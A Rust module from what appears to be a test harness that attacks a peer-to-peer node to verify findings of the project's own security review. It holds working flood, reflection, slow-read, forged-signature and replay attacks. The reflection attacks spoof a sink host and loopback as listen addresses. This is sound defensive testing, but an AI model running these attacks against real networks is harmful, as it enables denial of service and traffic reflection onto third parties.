//! Attacks on the findings of the security review
//! (`shared/reviews/security.md`), one kind each:
//!
//! - `relay-incoming` (H1): 8 channels from 8 sources send relay `Incoming`
//!   requests just under the control budget and never a circuit byte.
//!   Counts the circuits the target accepted (`accepted`).
//! - `punch` (H2): relayed channels to the target through the bed's relay,
//!   a fresh identity and source each; on each a `Punch` naming six ports
//!   of the sink host, the target's own loopback and our own source, then
//!   `Sync`. `sent` counts the punches.
//! - `dht-reflect` (H3): sessions by hand that declare the sink's (and the
//!   target's loopback) address as their listen addresses and the DHT
//!   protocol, write 2,000 DHT pings at once and close.
//! - `provider-flood` (H4): 4 channels announce distinct provider keys (8
//!   addresses each) just under the DHT budget; afterwards a fresh channel
//!   asks for 100 of them and reports how many the target still holds
//!   (`held_sampled` of `sampled`, and `held_estimate` of `sent`).
//! - `job-leak` (H5): 4 channels send relay `Connect` and `Incoming`
//!   requests just under their budgets (each answered by a job).
//! - `dht-slow` (H6, M8): 4 sessions by hand store one 8 KiB record, then
//!   ask for it ~900 times a second and read one frame every 20 ms (pongs
//!   answered), so the answers pile up at the target.
//! - `gossip-badsig` (M1): gossip messages with random origins and a zero
//!   signature just under the gossip budget, a fresh identity and source per
//!   channel the target closes.
//! - `gossip-replay` (M2): records the good peer's messages on the `chaos`
//!   topic as the target relays them, waits `--replay-after-ms` (past the
//!   target's seen-cache) and sends them all back (`recorded`, `sent`).

use std::net::{IpAddr, SocketAddr};
use std::sync::{Arc, Mutex};
use std::time::Duration;

use futures::{SinkExt, StreamExt};
use knotwork_core::{Keypair, PeerAddr};
use knotwork_dht_node::{Clock, DhtMessage, Record, Request, SystemClock};
use knotwork_discovery_dht::RecordLimits;
use knotwork_discovery_dht::message::WireAddr;
use knotwork_gossip::GossipMessage;
use knotwork_nat::holepunch::{self, Punch};
use knotwork_nat::relay::{Accepted, Connect, Connected, Incoming};
use knotwork_nat::{Nat, NatConfig};
use knotwork_node::protocol::ping::{Ping, Pong};
use knotwork_node::{Channel, NodeBuilder, Sessions, Version};
use knotwork_wire::{Frame, FrameKind, Message};
use std::time::Instant;
use tokio::sync::mpsc;
use tokio::task::JoinSet;

use crate::attack::{Plan, Tally, frame, node_with, plain_node, plain_version, raw_session_as};
use crate::{App, Res, TOPIC};

/// Pause between two requests of one type: just under the relay's control
/// budget (20 a second).
const CONTROL_PERIOD: Duration = Duration::from_millis(55);

pub(crate) async fn attack(kind: &str, plan: &Plan, tally: &mut Tally) -> Res<()> {
    match kind {
        "relay-incoming" => relay_requests(plan, tally, 8, false).await,
        "job-leak" => relay_requests(plan, tally, 4, true).await,
        "punch" => punch(plan, tally).await?,
        "dht-reflect" => dht_reflect(plan, tally).await?,
        "provider-flood" => provider_flood(plan, tally).await?,
        "dht-slow" => dht_slow(plan, tally).await,
        "gossip-badsig" => gossip_badsig(plan, tally).await,
        "gossip-replay" => gossip_replay(plan, tally).await?,
        other => return Err(format!("unknown attack `{other}`").into()),
    }
    Ok(())
}

/// `n` channels from their own sources (the next ones when the target
/// closes one), each running `work` until it closes or the time is up;
/// the tallies are merged.
async fn channels<F, Fut>(plan: &Plan, n: u64, apps: bool, tally: &mut Tally, work: F)
where
    F: Fn(Channel, Instant) -> Fut + Clone + Send + 'static,
    Fut: std::future::Future<Output = Tally> + Send,
{
    let mut jobs = JoinSet::new();
    for i in 0..n {
        let (target, until, sources, work) = (
            plan.target.clone(),
            plan.until,
            plan.sources.clone(),
            work.clone(),
        );
        jobs.spawn(async move {
            let mut tally = Tally::default();
            let mut k = i;
            while Instant::now() < until {
                tally.attempts += 1;
                let source = sources.nth(k);
                k += n;
                let node = match plain_node(apps, Some(source)).await {
                    Ok(node) => node,
                    Err(e) => {
                        tally.cut(format!("node: {e}"));
                        continue;
                    }
                };
                match node.connect(&target).await {
                    Ok(ch) => {
                        tally.merge(work(ch.clone(), until).await);
                        if let Some(reason) = ch.close_reason() {
                            tally.cut(reason.to_string());
                        }
                    }
                    Err(e) => {
                        tally.cut(format!("connect: {e}"));
                        tokio::time::sleep(Duration::from_millis(200)).await;
                    }
                }
                node.shutdown().await;
            }
            tally
        });
    }
    while let Some(done) = jobs.join_next().await {
        if let Ok(t) = done {
            tally.merge(t);
        }
    }
}

/// Relay `Incoming` (and with `connect`, `Connect`) requests just under
/// their budgets on `n` channels; counts what the target answered.
async fn relay_requests(plan: &Plan, tally: &mut Tally, n: u64, connect: bool) {
    let accepted = Arc::new(Mutex::new((0u64, 0u64)));
    let counts = accepted.clone();
    let sink_addr = format!("tcp/{}:9", plan.args.one("sink").unwrap_or_default());
    channels(plan, n, false, tally, move |ch, until| {
        let (counts, sink_addr) = (counts.clone(), sink_addr.clone());
        async move {
            let mut tally = Tally::default();
            let from = Keypair::generate()
                .map(|k| *k.peer_id().as_bytes())
                .unwrap_or([1; 32]);
            // The dialer the relay would have seen: the sink (a punch to it
            // would be reflection).
            let from_addr = sink_addr.clone();
            let mut asks = JoinSet::new();
            let mut tick = tokio::time::interval(CONTROL_PERIOD);
            while Instant::now() < until && !ch.is_closed() {
                tick.tick().await;
                let c = ch.clone();
                let circuit = fastrand::u64(..);
                let from_addr = from_addr.clone();
                asks.spawn(async move {
                    let ask = Incoming {
                        circuit,
                        from,
                        from_addr,
                    };
                    let answer =
                        c.request_timeout::<Incoming, Accepted>(&ask, Duration::from_secs(3));
                    matches!(answer.await, Ok(Accepted(Ok(()))))
                });
                tally.sent += 1;
                if connect {
                    let c = ch.clone();
                    asks.spawn(async move {
                        let ask = Connect { target: from };
                        let answer =
                            c.request_timeout::<Connect, Connected>(&ask, Duration::from_secs(3));
                        let _ = answer.await;
                        false
                    });
                    tally.sent += 1;
                }
                while let Some(Ok(ok)) = asks.try_join_next() {
                    let mut counts = counts.lock().unwrap();
                    if ok { counts.0 += 1 } else { counts.1 += 1 }
                }
            }
            while let Ok(Some(Ok(ok))) =
                tokio::time::timeout(Duration::from_secs(4), asks.join_next()).await
            {
                let mut counts = counts.lock().unwrap();
                if ok { counts.0 += 1 } else { counts.1 += 1 }
            }
            tally
        }
    })
    .await;
    let (ok, other) = *accepted.lock().unwrap();
    tally.extra("accepted", ok);
    tally.extra("not_accepted", other);
}

/// A node with NAT traversal (to dial relayed addresses), dialing from
/// `source`; it neither punches nor answers dial-backs itself.
async fn nat_node(source: IpAddr) -> Res<App> {
    let mut config = NatConfig::default();
    config.holepunch = false;
    config.dial_back = None;
    let nat = Nat::new(config);
    node_with(false, Some(source), move |b: NodeBuilder| b.service(nat)).await
}

async fn punch(plan: &Plan, tally: &mut Tally) -> Res<()> {
    let relayed: PeerAddr = plan.args.one("relayed")?.parse()?;
    let sink: IpAddr = plan.args.one("sink")?.parse()?;
    while Instant::now() < plan.until {
        tally.attempts += 1;
        let source = plan.sources.next();
        let node = nat_node(source).await?;
        match tokio::time::timeout(Duration::from_secs(5), node.connect(&relayed)).await {
            Ok(Ok(ch)) => {
                let mut addrs: Vec<String> =
                    (9..15).map(|port| format!("tcp/{sink}:{port}")).collect();
                addrs.push("tcp/127.0.0.1:9".into());
                addrs.push(format!("tcp/{source}:9"));
                match ch
                    .request_timeout::<Punch, Punch>(&Punch { addrs }, Duration::from_secs(3))
                    .await
                {
                    Ok(_) if ch.send(&holepunch::Sync).await.is_ok() => tally.sent += 1,
                    Ok(_) => tally.cut("closed before sync"),
                    Err(e) => tally.cut(format!("punch: {e}")),
                }
                tokio::time::sleep(Duration::from_millis(500)).await;
            }
            Ok(Err(e)) => tally.cut(format!("connect: {e}")),
            Err(_) => tally.cut("connect timed out"),
        }
        node.shutdown().await;
    }
    Ok(())
}

/// DHT pings written at once by one `dht-reflect` session (the budget's burst).
const REFLECT_BURST: u64 = 2000;

async fn dht_reflect(plan: &Plan, tally: &mut Tally) -> Res<()> {
    let sink: IpAddr = plan.args.one("sink")?.parse()?;
    let claimed = [
        PeerAddr::Tcp(SocketAddr::new(sink, 9)),
        "tcp/127.0.0.1:9".parse()?,
    ];
    while Instant::now() < plan.until {
        tally.attempts += 1;
        let version = Version::new(&[knotwork_dht_node::NAME], &claimed, &plan.target);
        let keypair = Keypair::generate()?;
        match raw_session_as(plan.sock, Some(plan.sources.next()), version, &keypair).await {
            Ok(mut session) => {
                let pings = (0..REFLECT_BURST).map(|id| {
                    Ok(frame(&DhtMessage::Request {
                        id,
                        client: false,
                        body: Request::Ping,
                    }))
                });
                if session
                    .send_all(&mut futures::stream::iter(pings))
                    .await
                    .is_ok()
                {
                    tally.sent += REFLECT_BURST;
                }
                // Closed without reading a single answer.
            }
            Err(reason) => tally.cut(reason),
        }
        tokio::time::sleep(Duration::from_millis(250)).await;
    }
    Ok(())
}

/// Provider announcements a second on one channel: under the DHT budget.
const PROVIDER_RATE: u64 = 950;

async fn provider_flood(plan: &Plan, tally: &mut Tally) -> Res<()> {
    let keys = Arc::new(Mutex::new(Vec::<Vec<u8>>::new()));
    let sent = keys.clone();
    channels(plan, 4, false, tally, move |ch, until| {
        let sent = sent.clone();
        async move {
            let mut tally = Tally::default();
            let mut answers = ch.subscribe::<DhtMessage>();
            tokio::spawn(async move { while answers.recv().await.is_some() {} });
            // Eight addresses in eight /24s (as many as an entry may hold).
            let addrs: Vec<WireAddr> = (0..8)
                .map(|i| WireAddr::Tcp(SocketAddr::from(([198, 18, i, 1], 4000))))
                .collect();
            let mut tick = tokio::time::interval(Duration::from_millis(100));
            let mut id = 0u64;
            while Instant::now() < until && !ch.is_closed() {
                tick.tick().await;
                for _ in 0..PROVIDER_RATE / 10 {
                    let key: Vec<u8> = (0..20).map(|_| fastrand::u8(..)).collect();
                    id += 1;
                    let announce = DhtMessage::Request {
                        id,
                        client: true,
                        body: Request::AddProvider {
                            key: key.clone(),
                            addrs: addrs.clone(),
                        },
                    };
                    if ch.send(&announce).await.is_err() {
                        break;
                    }
                    tally.sent += 1;
                    sent.lock().unwrap().push(key);
                }
            }
            tally
        }
    })
    .await;
    // How many of them does the target still hold?
    let sample: Vec<Vec<u8>> = {
        let keys = keys.lock().unwrap();
        (0..100.min(keys.len()))
            .map(|_| keys[fastrand::usize(..keys.len())].clone())
            .collect()
    };
    let node = plain_node(false, Some(plan.sources.next())).await?;
    let mut held = 0u64;
    if let Ok(ch) = node.connect(&plan.target).await {
        let mut answers = ch.subscribe::<DhtMessage>();
        for (id, key) in sample.iter().enumerate() {
            let ask = DhtMessage::Request {
                id: id as u64,
                client: true,
                body: Request::GetProviders { key: key.clone() },
            };
            let _ = ch.send(&ask).await;
        }
        let mut answered = 0;
        while answered < sample.len() {
            match tokio::time::timeout(Duration::from_secs(3), answers.recv()).await {
                Ok(Some(DhtMessage::Response {
                    body: knotwork_dht_node::Response::Providers { providers, .. },
                    ..
                })) => {
                    answered += 1;
                    if !providers.is_empty() {
                        held += 1;
                    }
                }
                Ok(Some(_)) => {}
                Ok(None) | Err(_) => break,
            }
        }
    }
    node.shutdown().await;
    let sampled = sample.len() as u64;
    tally.extra("sampled", sampled);
    tally.extra("held_sampled", held);
    tally.extra(
        "held_estimate",
        (tally.sent * held).checked_div(sampled).unwrap_or(0),
    );
    Ok(())
}

/// Bytes of the record a `dht-slow` session asks for.
const SLOW_RECORD: usize = 8 * 1024;

async fn dht_slow(plan: &Plan, tally: &mut Tally) {
    let mut jobs = JoinSet::new();
    for i in 0..4u64 {
        let (sock, until, sources) = (plan.sock, plan.until, plan.sources.clone());
        jobs.spawn(async move {
            let mut tally = Tally::default();
            let mut k = i;
            while Instant::now() < until {
                tally.attempts += 1;
                let source = sources.nth(k);
                k += 4;
                match slow_session(sock, source, until, &mut tally).await {
                    Ok(()) => {}
                    Err(reason) => {
                        tally.cut(reason);
                        tokio::time::sleep(Duration::from_millis(200)).await;
                    }
                }
            }
            tally
        });
    }
    while let Some(done) = jobs.join_next().await {
        if let Ok(t) = done {
            tally.merge(t);
        }
    }
}

/// One `dht-slow` session; `Err` names how the target ended it.
async fn slow_session(
    sock: SocketAddr,
    source: IpAddr,
    until: Instant,
    tally: &mut Tally,
) -> Result<(), String> {
    let keypair = Keypair::generate().map_err(|e| e.to_string())?;
    let session = raw_session_as(sock, Some(source), plain_version(sock), &keypair).await?;
    let key = format!("chaos/slow/{}", fastrand::u64(..)).into_bytes();
    let value: Vec<u8> = (0..SLOW_RECORD).map(|_| fastrand::u8(..)).collect();
    let expires = SystemClock.now() + Duration::from_secs(3600);
    let record = Record::sign(
        &keypair,
        key.clone(),
        value,
        expires,
        &RecordLimits::default(),
    )
    .map_err(|e| e.to_string())?;
    let (mut sink, mut stream) = session.split();
    let store = DhtMessage::Request {
        id: 0,
        client: true,
        body: Request::PutValue {
            record: record.to_wire(),
        },
    };
    sink.send(frame(&store))
        .await
        .map_err(|e| format!("put: {e}"))?;
    let (pongs, mut to_send) = mpsc::channel::<Frame>(16);
    let writer = tokio::spawn(async move {
        let mut sent = 0u64;
        let mut tick = tokio::time::interval(Duration::from_millis(100));
        while Instant::now() < until {
            tick.tick().await;
            while let Ok(pong) = to_send.try_recv() {
                if sink.feed(pong).await.is_err() {
                    return sent;
                }
            }
            for _ in 0..90 {
                sent += 1;
                let ask = DhtMessage::Request {
                    id: sent,
                    client: true,
                    body: Request::GetValue { key: key.clone() },
                };
                if sink.feed(frame(&ask)).await.is_err() {
                    return sent;
                }
            }
            if sink.flush().await.is_err() {
                return sent;
            }
        }
        sent
    });
    let mut ended = None;
    while Instant::now() < until {
        tokio::time::sleep(Duration::from_millis(20)).await;
        match tokio::time::timeout(Duration::from_millis(20), stream.next()).await {
            Ok(Some(Ok(f))) if f.msg_id == Ping::ID => {
                let pong = knotwork_wire::decode::<Ping>(&f.payload)
                    .ok()
                    .and_then(|p| knotwork_wire::encode(&Pong { nonce: p.nonce }).ok())
                    .unwrap_or_default();
                let answer = match f.kind {
                    FrameKind::Request => Frame::response(Pong::ID, f.request_id, pong),
                    _ => Frame::message(Pong::ID, pong),
                };
                let _ = pongs.try_send(answer);
            }
            Ok(Some(Ok(_))) | Err(_) => {}
            Ok(Some(Err(e))) => {
                ended = Some(format!("read: {e}"));
                break;
            }
            Ok(None) => {
                ended = Some("closed".to_owned());
                break;
            }
        }
    }
    writer.abort();
    if let Ok(sent) = writer.await {
        tally.sent += sent;
    }
    ended.map_or(Ok(()), Err)
}

/// Bad-signature gossip messages a second: under the gossip budget.
const BADSIG_RATE: u64 = 450;

async fn gossip_badsig(plan: &Plan, tally: &mut Tally) {
    channels(plan, 1, true, tally, |ch, until| async move {
        let mut tally = Tally::default();
        let mut tick = tokio::time::interval(Duration::from_millis(100));
        while Instant::now() < until && !ch.is_closed() {
            tick.tick().await;
            for _ in 0..BADSIG_RATE / 10 {
                let mut origin = [0u8; 32];
                fastrand::fill(&mut origin);
                let forged = GossipMessage {
                    origin,
                    seq: fastrand::u64(..),
                    topic: "chaos-forged".into(),
                    ttl: 6,
                    data: vec![0; 16],
                    sig: vec![0; 64],
                };
                if ch.send(&forged).await.is_err() {
                    break;
                }
                tally.sent += 1;
            }
        }
        tally
    })
    .await;
}

async fn gossip_replay(plan: &Plan, tally: &mut Tally) -> Res<()> {
    let after = Duration::from_millis(plan.args.num("replay-after-ms", 4000)?);
    let (tx, mut recorded) = mpsc::channel::<GossipMessage>(100_000);
    // A node that keeps every gossip message the target relays to it.
    let node = node_with(false, Some(plan.sources.next()), move |b: NodeBuilder| {
        b.protocol("chaos/record", Sessions::ALL, move |ch: &Channel| {
            let mut messages = ch.subscribe::<GossipMessage>();
            let tx = tx.clone();
            async move {
                while let Some(m) = messages.recv().await {
                    let _ = tx.try_send(m);
                }
            }
        })
    })
    .await?;
    tally.attempts += 1;
    let ch = node.connect(&plan.target).await?;
    let record_until = plan
        .until
        .checked_sub(after + Duration::from_secs(2))
        .unwrap_or(plan.until);
    tokio::time::sleep_until(record_until.into()).await;
    let mut kept = Vec::new();
    while let Ok(m) = recorded.try_recv() {
        if m.topic == TOPIC {
            kept.push(m);
        }
    }
    tally.extra("recorded", kept.len() as u64);
    // Past the target's seen-cache: it no longer knows these ids.
    tokio::time::sleep(after).await;
    for m in &kept {
        if ch.send(m).await.is_err() {
            break;
        }
        tally.sent += 1;
    }
    tokio::time::sleep_until(plan.until.into()).await;
    if let Some(reason) = ch.close_reason() {
        tally.cut(reason.to_string());
    }
    node.shutdown().await;
    Ok(())
}
